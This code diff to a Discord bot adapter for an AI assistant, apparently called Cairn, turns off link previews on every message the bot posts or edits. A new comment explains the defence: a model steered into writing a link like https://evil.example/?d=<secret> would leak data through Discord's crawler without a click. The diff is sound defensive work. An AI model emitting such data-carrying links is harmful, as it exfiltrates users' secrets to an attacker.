@@ -4,7 +4,7 @@
  * reply refused for want of Read Message History goes as a plain message (and so does every
  * later one in that channel), content Discord refuses is sent escaped.
  */
-import { Routes, type Client, type REST } from 'discord.js';
+import { MessageFlags, Routes, type Client, type REST } from 'discord.js';
 import type { OutboundFile } from '../../src/core/message.js';
 import type { Logger } from '../../src/core/logger.js';
 import { describeError, type CairnError } from '../../src/core/errors.js';
@@ -15,6 +15,14 @@ import { idOf, newNonce } from './draft-messages.js';
 
 /** Mentions in replies never ping anyone: the model's text could contain @everyone. */
 export const NO_PINGS = { parse: [] as never[] };
+
+/**
+ * Every message Cairn posts or edits shows no link previews (as Slack's unfurl_links: false and Telegram's
+ * disabled previews): Discord's crawler would otherwise fetch each link the model wrote the moment it is
+ * posted, one steered into carrying data (https://evil.example/?d=<secret>) included, without a click.
+ * An edit sends it again: an edit's flags replace the message's, and SuppressEmbeds is the only one Cairn's have.
+ */
+export const SUPPRESS_EMBEDS: MessageFlags.SuppressEmbeds = MessageFlags.SuppressEmbeds;
 
 export interface ChannelMessagesDeps {
   client: Client;
@@ -41,7 +49,7 @@ export class ChannelMessages {
   /** A streamed draft's first post, one attempt (and one more as a plain message where replies are refused). */
   async postDraft(conversationId: string, channelId: string, content: string, replyTo: string | undefined, nonce: string): Promise<string | undefined> {
     const enforced = { nonce, enforce_nonce: true };
-    const post = () => attemptDiscordOnce(() => this.deps.client.rest.post(Routes.channelMessages(channelId), { body: { content, allowed_mentions: NO_PINGS, ...enforced, ...this.reference(conversationId, replyTo, channelId) } }));
+    const post = () => attemptDiscordOnce(() => this.deps.client.rest.post(Routes.channelMessages(channelId), { body: { content, allowed_mentions: NO_PINGS, flags: SUPPRESS_EMBEDS, ...enforced, ...this.reference(conversationId, replyTo, channelId) } }));
     return idOf(await post().catch((error: CairnError) => (this.noteRefusedReply(error, channelId) ? post() : Promise.reject(error))));
   }
 
@@ -54,7 +62,7 @@ export class ChannelMessages {
     const uploads = files.map((file) => ({ name: file.name, data: Buffer.from(file.bytes) }));
     const attempt = async (body: string, withFiles: boolean, edit: string | undefined, nonce: string) => {
       // A new message carries a nonce Discord enforces: a retry of one that arrived though its answer did not (a timeout) is not posted twice.
-      const options = { body: { content: body, allowed_mentions: NO_PINGS, ...(edit ? {} : { ...extra, nonce, enforce_nonce: true }), ...(withFiles && components ? { components } : {}) }, ...(withFiles && uploads.length > 0 ? { files: uploads } : {}) };
+      const options = { body: { content: body, allowed_mentions: NO_PINGS, flags: SUPPRESS_EMBEDS, ...(edit ? {} : { ...extra, nonce, enforce_nonce: true }), ...(withFiles && components ? { components } : {}) }, ...(withFiles && uploads.length > 0 ? { files: uploads } : {}) };
       const rest = 'files' in options ? this.deps.uploads : this.deps.client.rest;
       return idOf(await (edit ? rest.patch(Routes.channelMessage(channelId, edit), options) : rest.post(Routes.channelMessages(channelId), options)));
     };
